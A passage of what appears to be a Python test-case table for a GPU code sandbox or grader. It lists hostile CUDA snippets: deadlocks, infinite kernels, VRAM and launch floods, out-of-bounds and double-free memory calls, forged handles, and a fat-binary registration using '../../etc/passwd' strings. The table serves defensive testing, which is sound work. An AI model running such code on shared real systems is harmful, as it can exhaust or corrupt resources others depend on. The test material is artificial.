            "__device__ volatile int arrived = 0;\n__global__ void k(float* o, int n) { if (blockIdx.x == 0) { while (arrived < 1000000) {} } else arrived = 1; o[blockIdx.x] = 1; }\n",
            "k<<<8, 1>>>(po, n);",
            BOMB,
        ),
        (
            "barrier_that_half_the_block_reaches",
            "grid-sync deadlocks",
            "__global__ void k(const float* x, float* o, int n) { int i = threadIdx.x; if (i < 33) { __syncthreads(); __syncthreads(); } else { while (o[0] != 7.0f) { __syncthreads(); } } }\n",
            "k<<<1, 64>>>(px, po, n);",
            BOMB | FAULT | frozenset({Status.WRONG_OUTPUT}),
        ),
        (
            "endless_recursion",
            "infinite kernels",
            "__device__ __noinline__ float deep(float v, int d) { return d < 0 ? v : deep(v + d, d + 1) * 1.5f + d; }\n__global__ void k(float* o) { o[0] = deep(o[1], 1); }\n",
            "k<<<1, 1>>>(po);",
            BOMB | FAULT | RULED_OUT,
        ),
        (
            "printf_flood",
            "printf floods",
            '#include <cstdio>\n__global__ void k(float* o) { for (int i = 0; i < 100000; i++) printf("flood %d %d\\n", threadIdx.x, i); }\n',
            "k<<<64, 256>>>(po);",
            NEVER_CORRECT,
        ),
        (
            "device_malloc_flood",
            "VRAM hogs",
            "__global__ void k(float* o) { for (int i = 0; i < 1000000; i++) { char* p = (char*)malloc(1 << 20); if (p) p[0] = 1; } o[0] = 1; }\n",
            "k<<<8, 32>>>(po);",
            NEVER_CORRECT,
        ),
        (
            "nanosleep_for_ever",
            "infinite kernels",
            "__global__ void k(float* o) { for (;;) __nanosleep(1000000000); }\n",
            "k<<<1, 1>>>(po);",
            BOMB,
        ),
        (
            "grid_too_large",
            "launch limits",
            AFFINE_KERNEL,
            "affine<<<dim3(2147483647, 65535, 65535), 1>>>(px, po, n);",
            BOMB | STALE | FAULT,
        ),
        (
            "block_too_large",
            "launch limits",
            AFFINE_KERNEL,
            "affine<<<(n + 2047) / 2048, 2048>>>(px, po, n);",
            STALE | FAULT,
        ),
        (
            "empty_launch",
            "launch limits",
            AFFINE_KERNEL,
            "affine<<<0, 128>>>(px, po, n);",
            STALE | FAULT,
        ),
        (
            "too_much_shared_memory",
            "launch limits",
            AFFINE_KERNEL,
            "affine<<<(n + 127) / 128, 128, 1 << 20>>>(px, po, n);",
            STALE | FAULT,
        ),
        (
            "millions_of_launches",
            "launch floods",
            AFFINE_KERNEL,
            "for (long i = 0; i < 50000000; i++) affine<<<1, 1>>>(px, po, 1);",
            BOMB,
        ),
        (
            "millions_of_copies",
            "launch floods",
            "",
            "for (long i = 0; i < 50000000; i++) cudaMemcpyAsync(po, px, 4, cudaMemcpyDeviceToDevice);",
            BOMB,
        ),
        (
            "millions_of_streams",
            "launch floods",
            "",
            "for (long i = 0; i < 50000000; i++) { cudaStream_t s; cudaStreamCreate(&s); cudaEvent_t e; cudaEventCreate(&e); }",
            BOMB | STALE,
        ),
        (
            "negative_copy",
            "hostile RPC",
            "",
            "cudaMemcpy(po, px, (size_t)-1, cudaMemcpyDeviceToDevice);",
            STALE | FAULT,
        ),
        (
            "copy_past_the_end",
            "hostile RPC",
            "",
            "cudaMemcpy(po, px, n * 4 + 4096, cudaMemcpyDeviceToDevice);",
            STALE | FAULT,
        ),
        (
            "copy_from_nowhere",
            "hostile RPC",
            "",
            "cudaMemcpy(po, (void*)0x1234, n * 4, cudaMemcpyDeviceToDevice); cudaMemcpy((void*)0x7f0000000000, px, 64, cudaMemcpyDeviceToDevice);",
            STALE | FAULT,
        ),
        (
            "wrong_copy_kinds",
            "hostile RPC",
            "",
            "float h[4]; cudaMemcpy(h, px, 8, cudaMemcpyDeviceToDevice); cudaMemcpy(po, h, 8, cudaMemcpyDeviceToHost); cudaMemcpy(po, px, 8, (cudaMemcpyKind)77);",
            STALE | FAULT,
        ),
        (
            "huge_pitch",
            "hostile RPC",
            "",
            "cudaMemcpy2D(po, (size_t)1 << 62, px, (size_t)1 << 62, 64, (size_t)1 << 40, cudaMemcpyDeviceToDevice);",
            STALE | FAULT | RULED_OUT,
        ),
        (
            "memset_past_the_end",
            "hostile RPC",
            "",
            "cudaMemset(po, 0, (size_t)n * 4 + (1 << 20)); cudaMemset((char*)po - 64, 0, 128);",
            STALE | FAULT,
        ),
        (
            "frees_twice",
            "hostile RPC",
            "",
            "void* p; cudaMalloc(&p, 64); cudaFree(p); cudaFree(p); cudaFree((char*)po + 4); cudaFree((void*)px); int h; cudaFree(&h);",
            STALE | FAULT,
        ),
        (
            "uses_freed_memory",
            "hostile RPC",
            AFFINE_KERNEL,
            "float* p; cudaMalloc(&p, n * 4); cudaFree(p); affine<<<(n + 127) / 128, 128>>>(px, p, n); cudaMemcpy(po, p, n * 4, cudaMemcpyDeviceToDevice);",
            STALE | FAULT,
        ),
        (
            "launches_what_is_no_kernel",
            "hostile RPC",
            "",
            "void* a[1] = {&po}; cudaLaunchKernel((const void*)&cudaFree, dim3(1), dim3(1), a, 0, 0); cudaLaunchKernel((const void*)0x10, dim3(1), dim3(1), a, 0, 0);",
            STALE | FAULT,
        ),
        (
            "launches_with_null_arguments",
            "hostile RPC",
            AFFINE_KERNEL,
            "cudaLaunchKernel((const void*)affine, dim3(1), dim3(1), nullptr, 0, 0);",
            STALE | FAULT,
        ),
        (
            "stack_address_as_a_device_pointer",
            "hostile RPC",
            AFFINE_KERNEL,
            "float h[4] = {}; affine<<<1, 4>>>(h, po, 4);",
            STALE | FAULT,
        ),
        (
            "reads_device_memory_on_the_host",
            "hostile RPC",
            "",
            "volatile float v = px[0]; if (v == 1.0f) cudaMemset(po, 0, n * 4);",
            STALE | FAULT,
        ),
        (
            "made_up_stream_and_event",
            "hostile RPC",
            AFFINE_KERNEL,
            "affine<<<1, 128, 0, (cudaStream_t)0x4141414141>>>(px, po, n); cudaEventRecord((cudaEvent_t)0x42, (cudaStream_t)0x43); cudaStreamSynchronize((cudaStream_t)~0ull);",
            STALE | FAULT,
        ),
        (
            "registers_its_own_fat_binary",
            "hostile RPC",
            'extern "C" void** __cudaRegisterFatBinary(void*);\nextern "C" void __cudaRegisterFunction(void**, const char*, char*, const char*, int, void*, void*, void*, void*, int*);\n',
            'static int junk[64]; void** h = __cudaRegisterFatBinary(junk); __cudaRegisterFunction(h, (const char*)junk, (char*)"../../etc/passwd", "../../etc/passwd", -1, 0, 0, 0, 0, 0);',
            _GARBLED | RULED_OUT,
        ),
        (
            "symbol_that_is_none",
            "hostile RPC",
            "",
            "int junk = 0; cudaMemcpyToSymbol((const void*)&junk, &junk, 4, (size_t)1 << 40, cudaMemcpyHostToDevice); cudaMemcpyFromSymbol(&junk, (const void*)0x99, 4);",
            _GARBLED | RULED_OUT,
        ),
    )
)

UNSEEN_ESCAPES = (
    *_FORGERY,
    *_SYMBOLS,
    *_SIGNALS,
    *_PROCESSES,
    *_FLOODS,
    *_FILES,
    *_KERNEL_SURFACE,
    *_NETWORK,
    *_DEVICE_HARM,
)
